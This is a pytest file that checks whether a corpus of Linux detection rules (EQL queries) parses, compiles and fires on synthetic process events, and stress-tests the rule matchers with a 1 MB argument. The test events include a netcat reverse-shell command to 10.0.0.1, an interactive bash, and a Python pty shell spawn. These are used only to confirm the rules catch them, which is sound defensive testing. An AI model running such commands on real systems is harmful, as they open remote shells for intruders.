"""The whole Linux corpus (../shared/corpus/detection-rules/, 351 rules):
every query parses; the 204 single-event process rules
(../shared/corpus/process_rules.txt) compile and evaluate."""

from __future__ import annotations

import time
from typing import Dict, List, Optional, Tuple

import pytest

try:
    import tomllib
except ModuleNotFoundError:  # Python < 3.11
    import tomli as tomllib  # type: ignore[no-redef]

from audisp_eql.eql import compile_query, parse_query
from conftest import CORPUS

PROCESS_RULES = CORPUS.parent / "process_rules.txt"


def corpus_queries() -> List[Tuple[str, str]]:
    if not CORPUS.is_dir():
        pytest.skip(f"corpus not found at {CORPUS}")
    return [(str(p.relative_to(CORPUS)), tomllib.loads(p.read_text())["rule"]["query"])
            for p in sorted(CORPUS.rglob("*.toml"))]


def process_rule_paths() -> List[str]:
    return [line.split("\t")[0] for line in PROCESS_RULES.read_text().splitlines()
            if line and not line.startswith("#")]


def test_all_351_parse_and_compile() -> None:
    queries = corpus_queries()
    assert len(queries) == 351
    started = time.perf_counter()
    compiled: Dict[str, object] = {}
    kinds: Dict[str, int] = {}
    for path, text in queries:
        query = parse_query.__wrapped__(text)  # type: ignore[attr-defined]  # no cache
        kinds[query.kind] = kinds.get(query.kind, 0) + 1
        assert query.fields, path
        compiled[path] = compile_query(query)   # sequences and samples too
    elapsed = time.perf_counter() - started
    print(f"\nparse+compile of {len(queries)} corpus queries: {elapsed:.2f} s; kinds {kinds}")
    assert kinds == {"event": 273, "sequence": 75, "sample": 3}
    process = process_rule_paths()
    assert len(process) == 204
    for path in process:
        assert compiled[path].category == "process", path  # type: ignore[attr-defined]
    steps = [c for c in compiled.values() if hasattr(c, "stages")]
    assert len(steps) == 78 and all(c.conditions for c in steps)   # type: ignore[attr-defined]


def _doc(name: str, args: List[str], parent: str = "bash",
         parent_args: Optional[List[str]] = None) -> dict:
    parent_args = parent_args or [parent]
    return {
        "event": {"category": ["process"], "type": ["start"], "action": "exec"},
        "host": {"os": {"type": "linux"}},
        "process": {"name": name, "executable": f"/usr/bin/{name}", "args": args,
                    "args_count": len(args), "command_line": " ".join(args),
                    "working_directory": "/tmp", "pid": 4242,
                    "parent": {"name": parent, "executable": f"/usr/bin/{parent}",
                               "args": parent_args, "args_count": len(parent_args),
                               "command_line": " ".join(parent_args), "pid": 1}},
        "user": {"id": "1000", "name": "alice"},
    }


def test_process_rules_evaluate_and_fire_where_expected() -> None:
    by_path = dict(corpus_queries())
    rules = {p: compile_query(parse_query(by_path[p])) for p in process_rule_paths()}
    docs = [
        _doc("bash", ["bash", "-i"]), _doc("nc", ["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]),
        _doc("base64", ["base64", "-d"]), _doc("ls", ["ls", "-la"]),
        _doc("bash", ["bash"], "python3", ["python3", "-c", "import pty;pty.spawn('/bin/bash')"]),
        {"process": {"name": "x"}}, {},
    ]
    fired = {p for p, c in rules.items() for d in docs if c.predicate(d)}
    # The reverse shell and pty spawn are what these rules exist for.
    assert any("reverse_shell" in p or "netcat" in p for p in fired), sorted(fired)
    assert "rules/linux/execution_python_tty_shell.toml" in fired, sorted(fired)
    assert not any(c.predicate({}) for c in rules.values())
    # A rough figure (the real benchmark lives under bench/).
    predicates = [c.predicate for c in rules.values()]
    started = time.perf_counter()
    for _ in range(200):
        for d in docs[:5]:
            for predicate in predicates:
                predicate(d)
    rate = 1000 / (time.perf_counter() - started)
    print(f"\n204 process predicates, no index: {rate:,.0f} events/s")


def test_hostile_argument_against_every_corpus_pattern() -> None:
    """A 1 MB argument through every compiled corpus rule (and every step of
    the sequences and samples): linear matchers only."""
    compiled = []
    for _, text in corpus_queries():
        query = compile_query(parse_query(text))
        compiled.extend(getattr(query, "conditions", (query,)))
    hostile = ("a/" * 250_000) + "\\x00" + "9" * 1000
    doc = _doc("sh", ["sh", "-c", hostile])
    doc["process"]["parent"]["command_line"] = hostile
    doc["process"]["working_directory"] = hostile
    started = time.perf_counter()
    results = [c.predicate(doc) for c in compiled]
    print(f"\n1 MB argument x {len(compiled)} rules: {time.perf_counter() - started:.2f} s")
    assert len(results) > 273 + 78 and all(isinstance(r, bool) for r in results)
